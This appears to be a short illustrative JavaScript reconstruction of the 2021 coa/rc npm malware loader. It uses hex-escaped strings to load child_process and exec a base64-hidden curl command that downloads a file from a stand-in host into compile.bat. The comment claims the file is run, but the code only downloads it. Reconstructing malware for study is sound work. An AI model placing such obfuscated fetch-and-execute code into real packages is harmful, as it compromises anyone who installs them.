// Shape of the coa / rc 2021 loader: an obfuscated child_process call running a downloaded batch file.
const _0x1 = ["\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73", "\x73\x70\x61\x77\x6e"];
const cp = require(_0x1[0]);
const cmd = Buffer.from("Y3VybCBodHRwczovL2Ryb3AuaW52YWxpZC9zZGQuZGxsIC1vIGNvbXBpbGUuYmF0", "base64").toString();
cp.exec(cmd);
